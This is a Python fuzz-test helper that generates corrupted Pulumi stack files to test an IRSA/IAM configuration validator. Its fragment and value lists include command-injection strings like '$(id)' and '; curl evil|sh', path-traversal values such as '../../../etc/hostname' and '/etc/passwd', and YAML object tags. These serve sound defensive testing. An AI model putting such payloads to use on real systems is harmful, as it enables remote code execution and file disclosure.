"""Damaged stack files: changes that know the structure, changes of single characters, and YAML that surprises."""

import functools
import random
from collections.abc import Sequence
from copy import deepcopy
from pathlib import Path
from typing import Any

import yaml
from pydantic.alias_generators import to_camel

from irsa.rules.mistakes import Place
from irsa_config.key_types import keys_at
from tests.places import at, places
from tests.unit.irsa.test_fields import VALUES as OF_FIELDS

ROOT = Path(__file__).parents[2]
BASES = tuple(
    ROOT / name for name in ("Pulumi.showcase.yaml", "Pulumi.dev.yaml", "examples/stack-files/six-bindings.yaml")
)
DUMP = functools.partial(
    yaml.dump, Dumper=getattr(yaml, "CSafeDumper", yaml.SafeDumper), sort_keys=False, allow_unicode=True
)
# What a shell, a terminal, a CI log, YAML, IAM's patterns or Unicode's digits would take for more than text.
FRAGMENTS = (
    *("\n", "\nfix: x", "\x1b[31m", "\x85", "\u2028", "\u202e", "\ufeff", "\u00a0", "\x00", "\t", " ", "'", '"', "\\"),
    *("$(id)", "`id`", "; curl evil|sh", "::error::x", "#", "&", "<", "%0A", "{", "}", "[", "]"),
    *("*", "?", "${", "${account}", "${cluster}", "${aws:username}", "${bucket}", ":", "/", "//", "@", "-", ".", "_"),
    *("x" * 60, "x" * 600, "ä", "日本", "\u0663", "A", "0", "1", "2012-10-17", "arn:aws:iam::111122223333:role/x"),
)
STATEMENT = {"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": {"AWS": "111122223333"}}
VALUES: tuple[Any, ...] = (
    *(None, True, False, 0, -1, 3.5, 10**30, float("inf"), float("nan"), "", " ", "x", "*", "*:*", "a:b:c", "x" * 3000),
    *([], [[]], [None], {}, {"secure": "v1:abc"}, {"x": {"y": {"z": 1}}}, [{"a": 1}], "${", "${}", "${x}", "${aws:x}"),
    *("arn:", "arn:aws:iam::111122223333:policy/p", "arn:aws:iam::1:role/", "2012-10-17", "policies/none.json"),
    *("policies", "../../../etc/hostname", "/dev/zero", "/", "https://x?y", "a/b/c", "policies/my-policy.json"),
    *({"Version": "2012-10-17", "Statement": []}, {"Statement": "x"}, {"Version": "2012-10-17", "Statement": [1]}),
    *({"file": 3}, {"document": []}, {"file": "../../../etc/hostname"}, {"name": {}}, {"AWS": [1, ""]}, {1: 2}),
    *({"StringEquals": {"aws:ResourceAccount": 11112222333}}, {"NullIfExists": {"aws:username": "true"}}),
    *(
        {"StringLike": {"${cluster}:sub": "x"}},
        {"Bool": {"aws:SecureTransport": "maybe"}},
        {"Aws:tag": "a", "aws:Tag": "b"},
    ),
    *([STATEMENT], [{**STATEMENT, "Principal": "*"}], [{**STATEMENT, "Sid": "s"}, {**STATEMENT, "Sid": "s"}]),
)


def _by_key() -> dict[str, tuple[Any, ...]]:
    """Return values of the right kind, by the key that they are for: those of each argument, good and bad, and more."""
    found: dict[str, tuple[Any, ...]] = {key: (*more,) for key, more in OF_STACK_FILES.items()}
    for name, (good, bad) in OF_FIELDS.items():
        key = to_camel(name.rpartition(".")[2].rstrip("_"))
        # As often good as bad: what is accepted goes deeper.
        found[key] = (*found.get(key, ()), *[good] * len(bad), *bad)
    return found


# What a stack file alone has, and more of what is at a limit or beyond it.
OF_STACK_FILES: dict[str, Sequence[Any]] = {
    "tags": [{"Team": "a", "team": "b"}, {"k" * 128: "v" * 256}, {"ä": "日本"}, {f"k{n}": "v" for n in range(51)}],
    "conditions": [
        *({"NullIfExists": {"aws:username": "true"}}, {"ForAnyValue:ForAllValues:StringEquals": {"a:b": "x"}}),
        *({"StringEquals": {"aws:RequestTag/${bucket}": "x"}}, {"StringLike": {"aws:userid": "${cluster}*"}}),
    ],
    "statements": [[{**STATEMENT, "Sid": "Same"}] * 2, [STATEMENT] * 9, [{**STATEMENT, "NotAction": "sts:TagSession"}]],
    "name": ["a" * length for length in (63, 64, 65, 128, 253)],
    "path": ["/", "/a*b$(id)/", "/日本/", f"/{'a' * 510}/", f"/{'a' * 511}/"],
    "description": ["\u201cquoted\u201d", "x" * 1000, "\n", "\x7f", "\x00"],
    "policyArns": [["arn:aws:iam::aws:policy/X"] * 2, [f"arn:aws:iam::aws:policy/{n}" for n in range(21)]],
    "subjects": [["a:b"] * 2, ["*:?*"], [f"n{n}:a" for n in range(200)]],
    "formerly": ["a", "a@b", "a::b", "日本", "$(id)"],
    "clusters": [["blue"], ["blue", "blue"], ["blue", "green"], ["none"]],
    "file": ["policies/../policies/my-policy.json", "/etc/passwd", "policies/\x00", "x" * 5000],
    "oidcIssuer": ["https://x", "https://x/", "http://x", "https://x/id/A$(id)", "https://x?y", "https://user@x"],
    "variables": [{"bucket": each} for each in ("", "${bucket}", "*", 1)] + [{"account": "x"}, {"a b": "x"}],
}
BY_KEY = _by_key()
# Text that changes what YAML makes of the rest, put where a value may begin.
YAML = ("&a ", "*a", "!!int ", "!!binary ", "!!python/object:x ", "!x ", "<<: *a", "? ", "- ", "| ", ">\n", "%YAML 9\n")


def case(seed: int, number: int) -> str:
    """Return the text of one damaged stack file; the same for the same seed and number."""
    chance = random.Random(f"{seed}/{number}")
    text = _text(chance.choice(BASES))
    if chance.random() < 0.1:
        return _scratched(text, chance)
    document = _fewer_bindings(yaml.load(text, Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader)), chance)
    for _ in range(chance.choice((1, 1, 1, 2, 3))):
        _change(document["config"], chance)
    damaged = str(DUMP(document))
    return _scratched(damaged, chance) if chance.random() < 0.05 else damaged


@functools.cache
def _text(file: Path) -> str:
    return file.read_text()


def _fewer_bindings(document: Any, chance: random.Random) -> Any:
    """Return the document with one to four of its bindings, so that one change has a chance to be accepted."""
    config = document["config"]
    every = config["irsa:bindings"]
    kept = set(chance.sample(sorted(every), chance.randint(1, min(4, len(every)))))
    config["irsa:bindings"] = {key: binding for key, binding in every.items() if key in kept}
    silenced = config.get("irsa:lint", {}).get("silence", {})
    for rule in list(silenced):
        if not kept.issuperset(silenced[rule].get("bindings", ())):
            del silenced[rule]
    return document


def _change(config: Any, chance: random.Random) -> None:
    """Change one place of the settings."""
    every = [place for place in places(config) if place]
    known = [place for place in every if place[-1] in BY_KEY]
    change = chance.choice(CHANGES)
    change(config, chance.choice((change is _known and known) or every), every, chance)


def _known(config: Any, place: Place, _: Sequence[Place], chance: random.Random) -> None:
    at(config, place[:-1])[place[-1]] = deepcopy(chance.choice(BY_KEY.get(str(place[-1]), VALUES)))


def _set(config: Any, place: Place, _: Sequence[Place], chance: random.Random) -> None:
    at(config, place[:-1])[place[-1]] = deepcopy(chance.choice(VALUES))


def _alter(config: Any, place: Place, _: Sequence[Place], chance: random.Random) -> None:
    container, key = at(config, place[:-1]), place[-1]
    if isinstance(container[key], str):
        container[key] = _altered(container[key], chance)
    elif isinstance(container, dict):
        container[_altered(str(key), chance)] = container.pop(key)


def _alike(config: Any, place: Place, every: Sequence[Place], chance: random.Random) -> None:
    """Put in what stands under the same key elsewhere: it is of the right kind, and so the change goes deeper."""
    alike = [each for each in every if each[-1] == place[-1]]
    at(config, place[:-1])[place[-1]] = deepcopy(at(config, chance.choice(alike)))


def _move(config: Any, place: Place, every: Sequence[Place], chance: random.Random) -> None:
    at(config, place[:-1])[place[-1]] = deepcopy(at(config, chance.choice(every)))


def _remove(config: Any, place: Place, *_: Any) -> None:
    del at(config, place[:-1])[place[-1]]


def _rename(config: Any, place: Place, *_: Any) -> None:
    container, key = at(config, place[:-1]), place[-1]
    if isinstance(container, dict):
        container[str(key)[1:] + "x"] = container.pop(key)


def _give(config: Any, place: Place, _: Sequence[Place], chance: random.Random) -> None:
    """Add a key that belongs there, or an item."""
    keys = keys_at((str(place[0]).removeprefix("irsa:"), *place[1:-1])) or keys_at(("bindings", "x"))
    key = chance.choice(keys)
    _add(at(config, place[:-1]), key, deepcopy(chance.choice((*VALUES, *BY_KEY.get(key, ())))))


def _copy(config: Any, place: Place, _: Sequence[Place], chance: random.Random) -> None:
    container, key = at(config, place[:-1]), place[-1]
    _add(container, _altered(str(key), chance), deepcopy(container[key]))


# Changes that keep the kind of a value come more often: they are accepted more often.
CHANGES = (*[_known] * 3, *[_alter] * 2, *[_alike] * 2, _set, _move, _remove, _rename, _give, _copy)


def _add(container: Any, key: Any, value: Any) -> None:
    if isinstance(container, dict):
        container[key] = value
    else:
        container.append(value)


def _altered(text: str, chance: random.Random) -> str:
    """Return a text with a fragment put in, a character lost, or a part of it twice."""
    start = chance.randint(0, len(text))
    match chance.choice(("put", "put", "lose", "twice")):
        case "put":
            return text[:start] + chance.choice(FRAGMENTS) + text[start:]
        case "lose":
            return text[:start] + text[start + 1 :]
        case _:
            return text[:start] + text


def _scratched(text: str, chance: random.Random) -> str:
    """Return the text with some characters lost or something put in, as a typing error does."""
    start = chance.randrange(len(text))
    put = chance.choice(("", "\t", "{", "]", ":", "'", "\n", *YAML, *FRAGMENTS))
    return text[:start] + put + text[start + chance.randrange(4) :]
